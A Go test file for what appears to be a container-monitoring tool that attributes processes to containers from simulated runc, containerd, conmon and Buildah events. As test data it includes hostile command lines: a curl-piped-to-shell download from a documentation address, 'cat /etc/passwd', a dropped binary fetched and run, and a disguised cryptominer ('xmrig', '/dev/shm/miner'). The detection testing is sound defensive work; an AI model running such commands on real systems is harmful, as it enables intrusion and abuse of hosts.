package entity

import (
	"testing"

	"tidewaiter/command"
	"tidewaiter/event"
	"tidewaiter/evidence"
	"tidewaiter/image"
)

const root = "/run/containerd/runc"

// boot adds how containerd starts a container, as measured: the shim, runc
// create with its init, a hook of the engine, runc start, and the entry point,
// whose parent is the shim.
func (s *story) boot(at float64, id string, shim, init int, entry ...string) {
	s.run(at, shim-1, 900, "/usr/bin/containerd-shim-runc-v2", "-namespace", "moby", "-id", id, "start")
	s.run(at+0.01, shim, shim-1, "/usr/bin/containerd-shim-runc-v2", "-namespace", "moby", "-id", id, "-address", "/run/s")
	s.run(at+0.05, shim+1, shim, "/usr/sbin/runc", "--root", root, "--log-format", "json", "create", "--bundle", "/b", "--pid-file", "/p", id)
	s.run(at+0.09, shim+2, shim+1, "/usr/sbin/runc", "init")
	s.run(at+0.6, shim+3, shim+1, "/usr/sbin/dockerd", "libnetwork-setkey", "-exec-root=/e", id)
	s.run(at+1.5, shim+4, shim, "/usr/sbin/runc", "--root", root, "start", id)
	s.runOn("00:27", at+1.52, init, shim, entry...)
}

func TestTheRuntimesHelpersAreTheHosts(t *testing.T) {
	for name, tasks := range map[string]bool{"with tasks": true, "known through the shim alone": false} {
		t.Run(name, func(t *testing.T) {
			s := newStory(t)
			s.boot(10, containerA, 50, 100, "/app/server")
			s.run(40, 60, 50, "/usr/sbin/runc", "--root", root, "exec", "--process", "/f", "--detach", "--pid-file", "/p", containerA)
			s.run(40.01, 61, 60, "/usr/sbin/runc", "init")
			s.runOn("00:27", 40.04, 62, 60, "sh", "-c", "id; cat /etc/passwd")
			s.runOn("00:27", 40.05, 63, 62, "id")
			s.runOn("00:27", 40.06, 62, 50, "cat", "/etc/passwd") // runc has ended, sh became cat
			s.run(50, 64, 50, "/usr/sbin/runc", "--root", root, "delete", "--force", containerA)
			if tasks {
				s.task(11.49, containerA, 100)
				s.execTask(40.1, containerA, "e1", 62)
				s.execExit(40.2, containerA, "e1", 62)
				s.taskExit(49, containerA, 100)
			}
			s.commands(containerA, "/app/server [first]", "sh -c id; cat /etc/passwd [exec]", "id [exec]", "cat /etc/passwd [exec]")
			if got := len(s.subject(containerA).Of(evidence.Creation)); got != 1 {
				t.Errorf("%d creations, want that by runc create", got)
			}
		})
	}
	t.Run("a copy of runc without a file", func(t *testing.T) {
		s := newStory(t)
		s.shim(9, 50, containerA)
		s.run(10, 60, 50, "/usr/sbin/runc", "--root", root, "exec", "--detach", containerA)
		s.run(10.1, 61, 60, "runc", "init").Exe = "/memfd:runc_cloned:/proc/self/exe (deleted)"
		s.unknown(containerA)
	})
	t.Run("the record of runc exec comes last", func(t *testing.T) {
		s := newStory(t)
		s.task(10, containerA, 100)
		s.run(10, 100, 50, "server")
		s.run(20, 61, 60, "id") // linked by the exec below, by less than its tolerance
		s.execTask(20, containerA, "", 61)
		s.run(19.9, 60, 50, "/usr/sbin/runc", "exec", containerA)
		s.commands(containerA, "server [first]", "id [exec]")
	})
	t.Run("named freely", func(t *testing.T) {
		s := newStory(t)
		s.run(10, 60, 59, "/usr/sbin/runc", "--root", root, "exec", "--env", "A=deadbeefdeadbeef", "-t", "my-redis", "sh", "feedfacefeedface")
		s.runOn("00:27", 10.1, 61, 60, "sh", "feedfacefeedface")
		s.task(1, "my-redis", 30)
		s.commands("my-redis", "sh feedfacefeedface [exec]")
		s.unknown("feedfacefeedface")
	})
}

// What runs in a container may call itself what it likes.
func TestAProgramInAContainerIsNoHelper(t *testing.T) {
	forge := map[string][]string{
		"runc exec":   {"/tmp/runc", "exec", containerB},
		"runc run":    {"/tmp/runc", "run", containerB},
		"runc create": {"/tmp/runc", "create", "--bundle", "/b", containerB},
		"shim":        {"/tmp/containerd-shim-runc-v2", "-namespace", "moby", "-id", containerB},
	}
	for name, args := range forge {
		t.Run(name, func(t *testing.T) {
			for chain, tell := range map[string]func(s *story) (parent int){
				"child of the entry point": func(*story) int { return 100 },
				"grandchild": func(s *story) int {
					s.runOn("00:27", 15, 150, 100, "sh")
					return 150
				},
				"child of a fork": func(*story) int { return 199 },
				"child of a fork, below a program on the mount": func(s *story) int {
					s.runOn("00:27", 15, 150, 199, "sh")
					return 150
				},
			} {
				t.Run(chain, func(t *testing.T) {
					s := newStory(t)
					s.task(10, containerA, 100)
					s.runOn("00:27", 10, 100, 50, "sh")
					parent := tell(s)
					s.runOn("00:27", 20, 200, parent, args...)
					s.runOn("00:27", 21, 201, 200, "xmrig")
					s.run(22, 202, 200, "/dev/shm/miner").Device = "00:40"
					got := s.subject(containerA).Of(evidence.Command)
					if n := len(got); n < 4 || tell2(got[n-3:]) != tell2Args(args)+"|xmrig|/dev/shm/miner" {
						t.Errorf("in A: %s", tell2(got))
					}
					s.unknown(containerB)
				})
			}
		})
	}
}

func tell2(fs []evidence.Fact) string {
	out := ""
	for i, f := range fs {
		if i > 0 {
			out += "|"
		}
		out += tell(f)
	}
	return out
}

func tell2Args(args []string) string {
	return tell2([]evidence.Fact{{Kind: evidence.Command, Command: &evidence.CommandFact{Line: command.Parse(args, "", "")}}})
}

func TestDockerInDocker(t *testing.T) {
	s := newStory(t)
	s.task(10, containerA, 100)
	s.runOn("00:27", 10, 100, 50, "dockerd")
	s.runOn("00:27", 11, 110, 100, "containerd")
	s.runOn("00:27", 12, 120, 110, "/usr/bin/containerd-shim-runc-v2", "-namespace", "moby", "-id", containerB)
	s.runOn("00:27", 13, 121, 120, "/usr/bin/runc", "--root", root, "create", containerB)
	s.runOn("00:99", 14, 122, 120, "nginx")
	if got := len(s.subject(containerA).Of(evidence.Command)); got != 5 {
		t.Errorf("%d commands in the outer container, want 5", got)
	}
	s.unknown(containerB)
}

func (s *story) checked30s(id string, command ...string) {
	s.add(-1, event.Inspect, &event.ContainerDescription{ID: id, HealthCheck: command})
}

func TestHealthChecks(t *testing.T) {
	line := "wget -q -O /dev/null http://localhost:8080/ || exit 1"
	t.Run("and what they start", func(t *testing.T) {
		s := newStory(t)
		s.boot(10, containerA, 50, 100, "httpd")
		s.run(20, 60, 50, "/usr/sbin/runc", "exec", "--detach", containerA)
		s.runOn("00:27", 20.3, 62, 60, "/bin/sh", "-c", line)
		s.runOn("00:27", 20.3, 63, 62, "wget", "-q", "-O", "/dev/null", "http://localhost:8080/")
		s.add(20, event.Docker, &event.ExecStarted{Container: containerA, ExecID: "e1", Command: "/bin/sh -c " + line})
		s.execTask(20.4, containerA, "e1", 62)
		s.execExit(20.5, containerA, "e1", 62)
		s.run(30, 70, 50, "/usr/sbin/runc", "exec", "--detach", containerA)
		s.runOn("00:27", 30.3, 72, 70, "/bin/sh", "-c", "wget http://203.0.113.1/")
		s.checked30s(containerA, "/bin/sh", "-c", line)
		s.commands(containerA, "httpd [first]", "/bin/sh -c "+line+" [exec health]", "/bin/sh -c "+line+" [exec health]",
			"wget -q -O /dev/null http://localhost:8080/ [exec health]", "/bin/sh -c wget http://203.0.113.1/ [exec]")
	})
	t.Run("whose shell becomes the command", func(t *testing.T) {
		// A shell runs its last command without a further process.
		s := newStory(t)
		s.boot(10, containerA, 50, 100, "httpd")
		s.execTask(20.4, containerA, "e1", 62)
		s.runOn("00:27", 20.3, 62, 50, "/bin/sh", "-c", "wget -q http://localhost/")
		s.runOn("00:27", 20.31, 62, 50, "wget", "-q", "http://localhost/")
		s.execExit(20.5, containerA, "e1", 62)
		s.execTask(4000, containerA, "e2", 62)
		s.runOn("00:27", 4000, 62, 50, "wget", "http://203.0.113.1/")
		s.checked30s(containerA, "/bin/sh", "-c", "wget -q http://localhost/")
		s.commands(containerA, "httpd [first]", "/bin/sh -c wget -q http://localhost/ [exec health]",
			"wget -q http://localhost/ [exec health]", "wget http://203.0.113.1/ [exec]")
	})
	t.Run("of another container", func(t *testing.T) {
		s := newStory(t)
		s.task(10, containerA, 100)
		s.run(10, 100, 50, "check")
		s.checked30s(containerB, "check")
		s.commands(containerA, "check [first]")
	})
}

func TestExecsThatOnlyTheEngineTells(t *testing.T) {
	s := newStory(t)
	s.create(10, containerA, "alpine")
	s.add(20, event.Docker, &event.ExecStarted{Container: containerA, ExecID: "e1", Command: "sh -c curl http://203.0.113.8/ | sh", Image: image.Parse("alpine")})
	s.add(20, event.Containerd, &event.ExecStarted{Container: containerA, ExecID: "e1"})
	s.commands(containerA, "sh -c curl http://203.0.113.8/ | sh [exec]")
	f := s.subject(containerA).Of(evidence.Command)[0]
	if !f.Command.DownloadPiped || f.Command.UID != -1 {
		t.Errorf("%+v", f.Command)
	}
}

func TestWhatIsDroppedBeforeItRuns(t *testing.T) {
	s := newStory(t)
	s.task(10, containerA, 100)
	s.run(10, 100, 50, "sh").Cwd = "/work"
	s.run(11, 101, 100, "curl", "-o", "/tmp/x", "http://203.0.113.1/x")
	s.run(12, 102, 100, "/tmp/x")
	s.add(13, event.Auditd, &event.FileWrite{PID: 100, PPID: 50, Path: "/tmp/y"})
	s.run(12.5, 103, 100, "/tmp/y")
	s.run(14, 104, 100, "/tmp/y")
	s.commands(containerA, "sh [first]", "curl -o /tmp/x http://203.0.113.1/x", "/tmp/x [dropped]", "/tmp/y", "/tmp/y [dropped]")
}

// conmon goes on in a copy of itself that runs no program, so that no record
// tells the container's parent: the runtime that it started beside tells it.
func TestAMonitorThatNoRecordTells(t *testing.T) {
	s := newStory(t)
	s.run(9.9, 70, 900, "/usr/bin/conmon", "--api-version", "1", "-c", containerA, "-r", "/usr/bin/crun")
	s.run(10, 72, 71, "/usr/bin/crun", "--systemd-cgroup", "create", "--bundle", "/b", containerA)
	s.run(10.3, 74, 60, "/usr/bin/crun", "start", containerA)
	s.runOn("00:27", 10.4, 73, 71, "/app/server")
	s.runOn("00:27", 12, 75, 73, "sh", "-c", "id")
	s.run(20, 76, 71, "/usr/bin/podman", "container", "cleanup", containerA)
	s.run(30, 77, 76, "/usr/bin/fuse-overlayfs")
	s.commands(containerA, "/app/server [first]", "sh -c id")
	t.Run("whose id is given again", func(t *testing.T) {
		s := newStory(t)
		s.run(10, 72, 71, "/usr/bin/crun", "create", "--bundle", "/b", containerA)
		s.run(20, 73, 71, "/app/first")
		s.run(30, 82, 71, "/usr/bin/crun", "create", "--bundle", "/b", containerB)
		s.run(31, 83, 71, "/app/second")
		s.commands(containerA, "/app/first [first]")
		s.commands(containerB, "/app/second [first]")
	})
	t.Run("which is another program", func(t *testing.T) {
		s := newStory(t)
		s.run(5, 71, 1, "/usr/bin/bash")
		s.run(10, 72, 71, "/usr/bin/crun", "create", "--bundle", "/b", containerA)
		s.run(20, 73, 71, "/usr/bin/make")
		if got := s.subject(containerA).Of(evidence.Command); len(got) > 0 {
			t.Errorf("what a shell ran beside is taken for the container's: %v", got)
		}
	})
}

// A step of Buildah's is watched by another start of the builder itself.
func TestAStepOfBuildah(t *testing.T) {
	s := newStory(t)
	s.run(9, 70, 900, "/usr/bin/podman", "build", "-t", "web:1", ".")
	s.run(10, 71, 70, "/usr/bin/podman").Args = []string{"buildah-oci-runtime"}
	s.run(10.1, 72, 71, "/usr/bin/crun", "create", "--bundle", "/var/tmp/buildah33", "--no-new-keyring", "buildah-buildah33")
	s.run(10.2, 73, 71, "/usr/bin/crun", "start", "buildah-buildah33")
	s.runOn("00:98", 10.3, 74, 71, "/bin/sh", "-c", "make")
	s.runOn("00:98", 10.4, 75, 74, "make")
	s.run(20, 76, 71, "/usr/bin/crun", "delete", "buildah-buildah33")
	s.commands("buildah-buildah33", "/bin/sh -c make [first]", "make")
}
